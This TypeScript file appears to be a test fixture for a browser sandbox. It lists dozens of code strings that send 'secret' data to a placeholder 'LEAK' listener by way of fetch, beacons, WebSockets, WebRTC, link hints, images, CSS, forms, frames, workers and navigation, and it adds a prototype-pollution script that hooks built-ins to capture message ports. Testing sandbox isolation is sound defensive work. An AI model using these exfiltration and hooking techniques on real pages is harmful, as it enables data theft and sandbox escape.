/** Code that tries to get something out of the sandbox. LEAK stands for the address of somebody who listens. */
export const attacks: Readonly<Record<string, readonly string[]>> = {
  'fetch and its kin': [
    'await fetch("LEAK/fetch").catch(() => 0);',
    'const xhr = new (window as any).XMLHttpRequest(); xhr.open("GET", "LEAK/xhr"); try { xhr.send(); } catch {}',
    'navigator.sendBeacon("LEAK/beacon", "secret");',
    'await fetch("LEAK/keep", { method: "POST", body: "secret", mode: "no-cors", keepalive: true }).catch(() => 0);',
    'try { new (window as any).WebSocket("LEAK".replace("http", "ws")); } catch {}',
    'try { new (window as any).EventSource("LEAK/events"); } catch {}',
    'try { (window as any).fetchLater("LEAK/later", { activateAfter: 0 }); } catch {}',
    'try { new (window as any).WebTransport("LEAK".replace("http", "https")); } catch {}',
  ],
  'hints to the browser': [
    ...[
      'preconnect',
      'dns-prefetch',
      'prefetch',
      'preload',
      'modulepreload',
      'prerender',
      'stylesheet',
      'icon',
      'manifest',
    ].flatMap((rel) => [
      `document.head.append(Object.assign(document.createElement('link'), { rel: '${rel}', href: 'LEAK/${rel}', as: 'script' }));`,
      `document.body.innerHTML = '<link rel="${rel}" href="LEAK/${rel}" as="script">';`,
    ]),
    'const t = document.createElement("template"); t.innerHTML = "<option><link rel=preconnect href=LEAK></option>"; const s = document.createElement("select"); document.body.append(s); s[0] = t.content.firstChild as HTMLOptionElement;',
    'const t = document.createElement("template"); t.innerHTML = "<template><option><link rel=preconnect href=LEAK></option></template>"; const s = document.createElement("select"); document.body.append(s); s.add((t.content.firstChild as HTMLTemplateElement).content.firstChild as HTMLOptionElement);',
    'const d = document.implementation.createDocument("http://www.w3.org/1999/xhtml", "link"); const l = d.documentElement as HTMLLinkElement; l.rel = "preconnect"; l.href = "LEAK/"; document.body.append(l);',
    "const d = new DOMParser().parseFromString(\"<link xmlns='http://www.w3.org/1999/xhtml' rel='preconnect' href='LEAK'/>\", \"text/xml\"); document.body.append(d.documentElement);",
    'document.body.outerHTML = "<body><link rel=preconnect href=LEAK></body>";',
    'document.body.setHTMLUnsafe("<link rel=preconnect href=LEAK>");',
    'document.body.append((Document as any).parseHTMLUnsafe("<link rel=preconnect href=LEAK>").querySelector("link"));',
    'const r = document.createRange(); r.selectNodeContents(document.body); const l = document.createElement("link"); l.rel = "preconnect"; l.href = "LEAK"; r.insertNode(l);',
    'customElements.define("x-link", class extends HTMLLinkElement {}, { extends: "link" }); const l = document.createElement("link", { is: "x-link" }); l.rel = "preconnect"; l.href = "LEAK"; document.body.before(l);',
    'document.documentElement.setAttribute("manifest", "LEAK/m"); const m = document.createElement("meta"); m.httpEquiv = "x-dns-prefetch-control"; m.content = "on"; document.body.append(m);',
    'const a = document.createElement("a"); a.href = "LEAK/link"; a.textContent = "x"; document.body.append(a); a.dispatchEvent(new MouseEvent("mouseover", { bubbles: true })); a.dispatchEvent(new PointerEvent("pointerdown", { bubbles: true }));',
    'const s = document.createElement("script"); s.type = "speculationrules"; s.textContent = JSON.stringify({ prefetch: [{ source: "list", urls: ["LEAK/spec"] }] }); document.body.append(s);',
  ],
  'pictures, media and fonts': [
    'new Image().src = "LEAK/i.png";',
    'document.body.innerHTML = "<img src=LEAK/i2.png srcset=\'LEAK/i3.png 2x\'><picture><source srcset=LEAK/i4.png><img></picture><video src=LEAK/v poster=LEAK/p></video><audio src=LEAK/a></audio><track src=LEAK/t><input type=image src=LEAK/in>";',
    'document.body.innerHTML = "<svg><image href=LEAK/s.png /><use href=\'LEAK/u.svg#x\' /><filter id=f><feImage href=LEAK/fe.png /></filter><rect filter=url(#f) width=9 height=9 /></svg>";',
    'const f = new FontFace("q", "url(LEAK/font.woff2)"); (document as any).fonts.add(f); await f.load().catch(() => 0);',
    'const i = new Image() as any; i.attributionSrc = "LEAK/attribution"; i.src = "data:,";',
    'document.body.setAttribute("background", "LEAK/bg.png");',
  ],
  styles: [
    'document.body.innerHTML = "<style>@import url(LEAK/imp.css); @font-face { font-family: q; src: url(LEAK/q.woff2) } p { font-family: q; background: url(LEAK/b.png); cursor: url(LEAK/c.cur), auto; list-style-image: url(LEAK/l.png) } p::after { content: url(LEAK/after.png) }</style><p>text</p>"; getComputedStyle(document.body.lastElementChild!).color;',
    'const p = document.createElement("p"); p.textContent = "x"; p.style.background = "image-set(url(LEAK/set.png) 1x)"; p.style.maskImage = "url(LEAK/mask.svg)"; document.body.append(p);',
    'const sheet = new CSSStyleSheet(); sheet.replaceSync("body { background: url(LEAK/adopted.png) }"); document.adoptedStyleSheets = [sheet];',
  ],
  'forms, frames and scripts': [
    'const f = document.createElement("form"); f.action = "LEAK/form"; f.method = "post"; document.body.append(f); f.submit(); f.requestSubmit();',
    'document.body.append(Object.assign(document.createElement("iframe"), { src: "LEAK/frame" }));',
    'document.body.innerHTML = "<object data=LEAK/object></object>";',
    'document.body.append(Object.assign(document.createElement("embed"), { src: "LEAK/embed" }));',
    'document.body.append(Object.assign(document.createElement("script"), { src: "LEAK/script.js" }));',
    'document.head.append(Object.assign(document.createElement("base"), { href: "LEAK/base/" }));',
    'try { new (window as any).Worker(URL.createObjectURL(new Blob(["fetch(\'LEAK/worker\')"]))); } catch {}',
    'try { new (window as any).SharedWorker("data:text/javascript,fetch(\'LEAK/shared\')"); } catch {}',
    'try { await (CSS as any).paintWorklet?.addModule("LEAK/paint.js"); } catch {}',
    'try { await new AudioContext().audioWorklet.addModule("LEAK/audio.js"); } catch {}',
  ],
  WebRTC: [
    'for (const name of ["RTCPeerConnection", "webkitRTCPeerConnection"]) { const Peer = (window as any)[name]; if (!Peer) continue; const peer = new Peer({ iceServers: [{ urls: "stun:" + "LEAK".slice(7) }, { urls: "turn:" + "LEAK".slice(7) + "?transport=tcp", username: "a", credential: "b" }] }); peer.createDataChannel("x"); await peer.setLocalDescription(await peer.createOffer()); await new Promise((resolve) => setTimeout(resolve, 300)); }',
  ],
  popups: [
    'try { window.open("LEAK/popup", "_blank"); } catch {}',
    'const a = document.createElement("a"); a.href = "LEAK/blank"; a.target = "_blank"; a.rel = "opener"; document.body.append(a); a.click();',
    'const a = document.createElement("a"); a.href = "data:text/plain,secret"; a.download = "x"; a.click();',
    'window.print();',
  ],
};

/** Ways to take the frame, or the page, somewhere else. */
export const navigations: Readonly<Record<string, string>> = {
  'setting its address': 'window.location.href = "LEAK/secret";',
  'replacing its address': 'document.location.replace("LEAK/secret");',
  'following a link': 'const a = document.createElement("a"); a.href = "LEAK/secret"; a.click();',
  'a link to the top':
    'const a = document.createElement("a"); a.href = "LEAK/secret"; a.target = "_top"; document.body.append(a); a.click();',
  'a link to its parent':
    'const a = document.createElement("a"); a.href = "LEAK/secret"; a.target = "_parent"; document.body.append(a); a.click();',
  'setting the address of the top': 'window.top!.location.href = "LEAK/secret";',
  'submitting a form':
    'document.body.innerHTML = "<form action=LEAK/form><input name=a value=secret></form>"; document.forms[0]!.submit();',
  'a form to the top':
    'document.body.innerHTML = "<form action=LEAK/form target=_top><button name=a value=secret>x</button></form>"; document.querySelector("button")!.click();',
  'a refresh':
    'document.head.append(Object.assign(document.createElement("meta"), { httpEquiv: "refresh", content: "0;url=LEAK/secret" }));',
  'a refresh in text': 'document.body.innerHTML = "<meta http-equiv=refresh content=\'0;url=LEAK/secret\'>";',
  'an address with a page in it':
    'window.location.href = "data:text/html,<script>fetch(\'LEAK/data\')</script>";',
  'an address of its own making':
    'window.location.href = URL.createObjectURL(new Blob(["<script>fetch(\'LEAK/blob\')</script>"], { type: "text/html" }));',
  'an address that is a script': 'window.location.href = "javascript:fetch(\'LEAK/javascript\')";',
  'an SVG link':
    'document.body.innerHTML = "<svg><a href=LEAK/svg><text>x</text></a></svg>"; document.querySelector("a")!.dispatchEvent(new MouseEvent("click", { bubbles: true }));',
  'the history': 'window.history.back();',
};

/** Rewrites what the sandbox's own program might use, and keeps whatever comes by. */
export const pollution = `const seen: unknown[] = [];
let hooked = 0;
const keep = (...values: unknown[]) => { hooked += 1; for (let i = 0; i < values.length; i++) seen[seen.length] = values[i]; };
const tag = Object.prototype.toString.call.bind(Object.prototype.toString) as (value: unknown) => string;
const own = (window as any).Reflect.apply;
const hook = (owner: any, name: string) => {
  const native = owner[name];
  if (typeof native !== 'function') return;
  try { owner[name] = function (this: unknown, ...args: unknown[]) { keep(this, ...args); return own(native, this, args); }; } catch {}
};
for (const name of ['postMessage', 'start', 'close', 'addEventListener']) hook(MessagePort.prototype, name);
for (const name of ['addEventListener', 'dispatchEvent']) hook(EventTarget.prototype, name);
for (const name of ['push', 'map', 'forEach', 'filter', 'every', 'some', 'find', 'flatMap', 'includes', 'indexOf']) hook(Array.prototype, name);
for (const name of ['get', 'set', 'has', 'delete', 'forEach']) { hook(Map.prototype, name); hook(Set.prototype, name); hook(WeakMap.prototype, name); }
for (const name of ['then', 'catch', 'finally']) hook(Promise.prototype, name);
for (const name of ['bind', 'call', 'apply']) hook(Function.prototype, name);
for (const name of ['parse', 'stringify']) hook(JSON, name);
for (const name of ['assign', 'keys', 'entries', 'freeze', 'defineProperty', 'fromEntries']) hook(Object, name);
for (const name of ['apply', 'get', 'construct']) hook(Reflect, name);
for (const name of ['data', 'ports', 'source']) {
  const native = Object.getOwnPropertyDescriptor(MessageEvent.prototype, name)!;
  Object.defineProperty(MessageEvent.prototype, name, { get() { keep(this, (this as Event).target, (this as Event).currentTarget); return own(native.get!, this, []); } });
}
for (const name of ['target', 'currentTarget', 'srcElement']) {
  const native = Object.getOwnPropertyDescriptor(Event.prototype, name)!;
  Object.defineProperty(Event.prototype, name, { get() { const value = own(native.get!, this, []); keep(value); return value; } });
}
for (const name of ['port', 'send', 'page', 'type', 'key', 'then']) {
  try { Object.defineProperty(Object.prototype, name, { configurable: true, get() { return undefined; }, set(value) { keep(this, value); } }); } catch {}
}
(Error as any).prepareStackTrace = (_: unknown, sites: any[]) => { for (const site of sites) keep(site.getThis?.(), site.getFunction?.()); return ''; };
try { new Error('look').stack; (null as any).x; } catch (error) { (error as Error).stack; }
(window as any).loot = () => ({ ports: seen.filter((value) => tag(value) === '[object MessagePort]').length, hasHooked: hooked > 0 });`;
